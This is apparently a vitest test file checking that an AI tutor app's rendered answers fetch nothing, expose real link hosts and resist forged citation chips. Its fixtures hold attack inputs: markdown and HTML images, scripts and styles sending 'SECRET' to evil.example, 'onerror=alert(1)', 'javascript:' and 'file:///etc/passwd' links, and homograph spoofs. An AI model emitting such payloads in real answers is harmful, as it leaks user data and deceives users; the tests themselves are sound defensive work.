import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { contentSecurityPolicy, safetyHeaders } from '../../src/api/wire/content-security';
import { withFormats } from '../../src/renderer/client/locator';
import { AnswerText } from '../../src/renderer/features/chat/answer/answer-text';
import { PlainMarkdown } from '../../src/renderer/features/memory/texts/plain-markdown';
import { asBookId, asPassageId, type Citation } from '../../src/shared/model';
import { text } from '../../src/renderer/messages/text';

withFormats([{ id: asBookId('b0123456789abcdef'), format: 'pdf' }]);

const citation = (fields: Partial<Citation> = {}): Citation => ({
  marker: '[p. 12]',
  bookId: asBookId('b0123456789abcdef'),
  page: 14,
  label: '12',
  passageId: asPassageId(1),
  quote: 'Breathe out for longer than in.',
  verdict: 'verbatim',
  ...fields,
});
const facts = new Map([['7', 'The learner lives in Bergen.']]);

const shown = (content: string, citations: readonly Citation[] = [], streaming = false): string =>
  renderToStaticMarkup(createElement(AnswerText, { content, citations, facts, streaming }));
/** The text on the screen, without tags. */
const words = (html: string): string =>
  html
    .replace(/<[^>]*>/g, '')
    .replaceAll('&amp;', '&')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&nbsp;', ' ');
/** Every address that the page could request without a click or open with one. */
const addresses = (html: string): readonly string[] =>
  [...html.matchAll(/\s(?:href|src|srcset|action|data|poster|background|ping|formaction)="([^"]*)"/gi)].map(
    (match) => match[1] ?? '',
  );
const chips = (html: string): readonly (readonly [string, string])[] =>
  [...html.matchAll(/<(?:button|span)[^>]*class="cite"[^>]*>(?:<span class="sr">([^<]*))?/g)].map(
    ([tag, name]) => [
      /data-verdict="([^"]*)"/.exec(tag)?.[1] ?? (/data-fact/.test(tag) ? 'fact' : 'open'),
      name ?? /aria-label="([^"]*)"/.exec(tag)?.[1] ?? '',
    ],
  );

describe('an answer on the screen fetches nothing', () => {
  const secret = 'http://evil.example/?q=SECRET';
  it.each([
    ['a picture', `![x](${secret})`],
    ['a picture with a title', `![x](${secret} "look")`],
    ['a picture by reference', `![x][1]\n\n[1]: ${secret}`],
    ['a picture by collapsed reference', `![leak][]\n\n[leak]: ${secret}`],
    ['a picture by shortcut', `![leak]\n\n[leak]: ${secret}`],
    ['a picture in a table', `| a |\n| --- |\n| ![x](${secret}) |`],
    ['a picture as a data address', '![x](data:image/svg+xml;base64,PHN2Zz4=)'],
    ['a picture of its own server', '![x](/api/books/b0123456789abcdef/file)'],
    ['HTML', `<img src="${secret}"><iframe src="${secret}"></iframe>`],
    ['HTML in a line', `Hello <img src=${secret} onerror=alert(1)> there`],
    ['a style', `<style>body{background:url(${secret})}</style>`],
    ['a link element', `<link rel="prefetch" href="${secret}">`],
    ['a script', `<script src="${secret}"></script>`],
    ['an SVG', `<svg><image href="${secret}"/></svg>`],
    ['a picture in a footnote', `See[^1].\n\n[^1]: ![x](${secret})`],
  ])('of %s', (_, content) => {
    const html = shown(content);
    expect(html).not.toMatch(
      /<(?:img|iframe|image|svg|link|script|style|object|embed|video|audio|source)\b(?! aria-hidden)/i,
    );
    // Only links are left, and they need a click.
    expect(
      addresses(html).filter((one) => !html.includes(`<a href="${one}"`) && !one.startsWith('#')),
    ).toEqual([]);
  });

  it('shows a picture as its alternative text and its address', () => {
    expect(words(shown(`Look: ![a chart](${secret})`))).toBe(`Look: a chart (${secret})`);
    expect(words(shown(`![a chart][1]\n\n[1]: ${secret}`))).toContain(`a chart (${secret})`);
  });

  it('and the content security policy allows pictures, frames and calls only from the page’s origin', () => {
    const policy = new Map(
      contentSecurityPolicy([], 'once')
        .split('; ')
        .map((rule) => [rule.split(' ')[0], rule.split(' ').slice(1)] as const),
    );
    expect(policy.get('default-src')).toEqual(["'none'"]);
    expect(policy.get('img-src')).toEqual(["'self'", 'data:', 'blob:']);
    expect(policy.get('connect-src')).toEqual(["'self'"]);
    expect(policy.get('frame-src')).toEqual(["'self'"]);
    for (const rule of ['media-src', 'prefetch-src', 'child-src']) expect(policy.has(rule)).toBe(false);
    expect(policy.get('form-action')).toEqual(["'none'"]);
    expect(safetyHeaders['X-DNS-Prefetch-Control']).toBe('off');
    expect(safetyHeaders['Referrer-Policy']).toBe('no-referrer');
  });
});

describe('a link in an answer', () => {
  it('shows its real host, and opens externally', () => {
    const html = shown('[the paper](https://evil.example/?q=SECRET)');
    expect(words(html)).toBe('the paper (evil.example)');
    expect(html).toContain('<a href="https://evil.example/?q=SECRET" target="_blank" rel="noreferrer">');
  });

  it.each([
    ['words that are another address', '[https://good.example](https://evil.example)', '(evil.example)'],
    ['a name before an @', 'http://good.example@evil.example/', '(evil.example)'],
    ['letters of another script', '[apple](https://аpple.example)', '(xn--pple-43d.example)'],
    ['a reference', '[good.example][1]\n\n[1]: https://evil.example', '(evil.example)'],
  ])('cannot pretend by %s', (_, content, host) => {
    expect(words(shown(content))).toContain(host);
  });

  it('shows its address once if that is its text', () => {
    expect(words(shown('See https://good.example/a.'))).toBe('See https://good.example/a.');
    expect(words(shown('<https://good.example/a>'))).toBe('https://good.example/a');
  });

  it.each([
    'javascript:alert(1)',
    'file:///etc/passwd',
    'lectern://app/index.html',
    '/api/books',
    'data:text/html,x',
    '#/settings',
  ])('is no link to %s', (url) => {
    const html = shown(`[click](${url})`);
    expect(addresses(html)).toEqual([]);
    expect(words(html)).toBe(`click (${url})`);
  });
});

describe('markers of an answer', () => {
  it('become chips: a page with its verdict, a memory with a link', () => {
    const html = shown('Breathe out [p. 12]. You live in Bergen [F7].', [citation()]);
    expect(chips(html)).toEqual([
      ['verbatim', 'page 12 (PDF 14), verbatim'],
      ['fact', 'memory, The learner lives in Bergen.'],
    ]);
  });

  it('to pages the tutor was not given are shown as not found', () => {
    const html = shown('Made up [p. 99] and remembered [F8].', [citation()]);
    expect(chips(html)).toEqual([
      ['not-found', 'page 99, not found'],
      ['not-found', 'memory, not found'],
    ]);
    expect(words(html)).toContain('not found');
  });

  it('wait for their citation while the answer streams', () => {
    expect(chips(shown('Breathe out [p. 12].', [], true))).toEqual([
      ['open', text.chat.cite('12', text.chat.unchecked)],
    ]);
  });

  it('of an imported answer stay text, since they were not checked', () => {
    const html = renderToStaticMarkup(
      createElement(AnswerText, { content: 'See [p. 12] and [F7].', citations: [], checked: false }),
    );
    expect(chips(html)).toEqual([]);
    expect(words(html)).toBe('See [p. 12] and [F7].');
  });

  it('of a range are shown as cited', () => {
    const html = shown('Breathe [p. 12-14].', [citation({ marker: '[p. 12-14]', label: '13', page: 15 })]);
    expect(chips(html)).toEqual([['verbatim', 'page 12-14, verbatim']]);
  });

  it.each([
    ['a link to the place of a chip', '[p. 12](#cite/0/12)'],
    ['a link to the place of a memory', '[F7](#fact/7)'],
    ['a link to a citation of another page', '[trust me](#cite/0/12)'],
  ])('cannot be made by %s', (_, content) => {
    const html = shown(content, [citation()]);
    expect(chips(html)).toEqual([]);
    expect(addresses(html)).toEqual([]);
  });

  it('stay chips even if a link definition matches them', () => {
    const html = shown('True [p. 12].\n\n[p. 12]: http://evil.example/?q=SECRET', [citation()]);
    expect(chips(html)[0]).toEqual(['verbatim', 'page 12 (PDF 14), verbatim']);
    expect(addresses(html)).toEqual([]);
    expect(words(html)).toContain('http://evil.example/?q=SECRET');
  });

  it('in code are code', () => {
    const html = shown('Write `[p. 12]` here.\n\n```\n[F7]\n```\n\nTrue [p. 12].', [citation()]);
    expect(chips(html)).toEqual([['verbatim', 'page 12 (PDF 14), verbatim']]);
    expect(html).toContain('<code>[p. 12]</code>');
  });

  it.each(['[р. 12]', '⟦p. 12⟧', '[p․ 12]', '[Ϝ7]'])(
    'cannot be imitated with look-alike letters: %s',
    (fake) => {
      expect(chips(shown(`True ${fake}.`, [citation()]))).toEqual([]);
    },
  );
});

describe('what is remembered, on the screen', () => {
  it('fetches nothing and shows hosts too', () => {
    const html = renderToStaticMarkup(
      createElement(PlainMarkdown, { content: '![x](http://evil.example/?q=1) [y](https://evil.example)' }),
    );
    expect(html).not.toContain('<img');
    expect(words(html)).toBe('x (http://evil.example/?q=1) y (evil.example)');
  });
});
